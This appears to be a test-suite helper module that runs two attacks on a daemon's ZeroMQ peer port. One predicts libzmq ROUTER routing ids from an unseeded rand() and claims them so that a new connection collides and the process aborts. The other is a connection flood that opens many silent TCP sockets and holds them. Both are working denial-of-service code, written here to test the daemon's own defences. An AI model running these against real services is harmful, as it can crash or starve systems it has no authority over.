"""Attacks on a daemon's peer port, each run as a process of its own by the tests
(``python -m tests.peer_port_attacks ATTACK HOST:PORT ...``): what a stranger who reaches
the port can do without keys. Each prints one line of JSON saying what it saw, and
exits by itself (every wait here is bounded).

``routing-ids HOST:PORT``: libzmq's ROUTER names a connection that brings no routing id
``0x00`` + a counter that starts at ``rand()``; in a process that never seeds it, the
first values of ``rand()`` are those of this process, read first thing (before anything
here can call it). The attack holds connections that name themselves with the next
values from each of the first few ROUTERs' starting points, then connects without a
name: the ROUTER would give a new connection a name in use (libzmq aborts on that).

``flood HOST:PORT COUNT RATE HOLD_S``: ``COUNT`` TCP connections that never say a byte,
``RATE`` a second, all held until ``HOLD_S`` after the first.
"""

from __future__ import annotations

import ctypes

# First thing: the first values of an unseeded libc rand(), as any process sees them.
_UNSEEDED_RAND = [ctypes.CDLL(None).rand() for _ in range(8)]

import contextlib  # noqa: E402 - after the read above, on purpose
import json  # noqa: E402
import socket  # noqa: E402
import sys  # noqa: E402
import time  # noqa: E402

import zmq  # noqa: E402

# Names held per guessed starting point, and the guesses: the counters of the first four
# ROUTERs a process makes (two rand() calls each).
NAMES_PER_GUESS = 40
GUESSES = 4
ANSWER_TIMEOUT_MS = 5000


def guessed_counter_starts() -> list[int]:
    """libzmq's ``generate_random()`` (4.3.5): ``rand() | rand() << 31``, per ROUTER."""
    values = _UNSEEDED_RAND
    return [(values[2 * i] | values[2 * i + 1] << 31) & 0xFFFFFFFF for i in range(GUESSES)]


def _answered(sock: zmq.Socket[bytes]) -> bool:
    """Whether the daemon answered the byte ``sock`` sends (not msgpack: a PeerError)."""
    sock.send(b"\xc1")
    return bool(sock.poll(ANSWER_TIMEOUT_MS)) and bool(sock.recv())


def routing_ids(address: str) -> dict[str, object]:
    ctx = zmq.Context()
    socks: list[zmq.Socket[bytes]] = []

    def dealer(routing_id: bytes | None) -> zmq.Socket[bytes]:
        sock = ctx.socket(zmq.DEALER)
        sock.setsockopt(zmq.LINGER, 0)
        if routing_id is not None:
            sock.setsockopt(zmq.ROUTING_ID, routing_id)
        sock.connect(f"tcp://{address}")
        socks.append(sock)
        return sock

    try:
        held = [dealer(b"\x00" + ((start + k) & 0xFFFFFFFF).to_bytes(4, "big"))
                for start in guessed_counter_starts() for k in range(NAMES_PER_GUESS)]
        # Each is named at the ROUTER once it is answered.
        named = sum(_answered(sock) for sock in held)
        nameless = 0
        for _ in range(NAMES_PER_GUESS):
            if not _answered(dealer(None)):
                break
            nameless += 1
        return {"held": len(held), "named": named, "nameless_answered": nameless}
    finally:
        for sock in socks:
            sock.close(linger=0)
        ctx.term()


def flood(address: str, count: int, rate: float, hold_s: float) -> dict[str, object]:
    host, port = address.rsplit(":", 1)
    socks: list[socket.socket] = []
    began = time.monotonic()
    try:
        for i in range(count):
            lag = began + i / rate - time.monotonic()
            if lag > 0:
                time.sleep(lag)
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.setblocking(False)
            with contextlib.suppress(BlockingIOError, InterruptedError, ConnectionError):
                sock.connect((host, int(port)))
            socks.append(sock)
        opened_s = time.monotonic() - began
        time.sleep(max(0.0, began + hold_s - time.monotonic()))
        return {"opened": len(socks), "opened_s": round(opened_s, 2)}
    finally:
        for sock in socks:
            sock.close()


def main(argv: list[str]) -> int:
    attack, address, *args = argv
    if attack == "routing-ids":
        result = routing_ids(address)
    elif attack == "flood":
        result = flood(address, int(args[0]), float(args[1]), float(args[2]))
    else:
        raise SystemExit(f"unknown attack {attack!r}")
    print(json.dumps(result), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
